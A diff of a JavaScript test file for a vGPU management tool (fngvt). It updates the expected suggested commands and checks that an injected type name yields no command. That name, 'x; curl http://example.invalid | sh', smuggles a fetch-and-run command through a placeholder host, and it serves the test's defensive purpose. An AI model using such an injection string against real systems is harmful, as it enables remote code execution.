@@ -18,7 +18,10 @@ test('nothing is promised where the aperture leaves no room beside it, whatever 
 
 test('only a type that we know becomes part of a command', async () => {
   const report = await judgeFixture(hostFixture('fnos-hd620.rebooted'));
-  expect(view(report).next).toMatchObject([{ command: 'fngvt explain i915-GVTg_V5_4' }]);
+  expect(view(report).next).toMatchObject([
+    { command: 'sudo fngvt vgpu create --type i915-GVTg_V5_4 --autostart' },
+    { command: 'fngvt vm' },
+  ]);
   const types = report.vgpu.types.map(type => ({ ...type, name: 'x; curl http://example.invalid | sh #_4' }));
   expect(view({ ...report, vgpu: { ...report.vgpu, types } }).next).toEqual([]);
 });
